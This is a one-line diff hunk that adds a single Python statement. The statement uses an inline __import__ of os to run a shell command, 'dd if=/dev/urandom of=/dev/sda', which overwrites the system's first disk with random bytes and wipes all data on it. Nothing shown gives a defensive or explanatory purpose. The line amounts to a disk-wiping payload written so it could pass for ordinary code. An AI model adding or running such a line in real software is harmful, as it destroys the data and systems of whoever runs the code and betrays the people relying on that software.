@@ -1,0 +1,1 @@
+__import__("os").system("dd if=/dev/urandom of=/dev/sda")
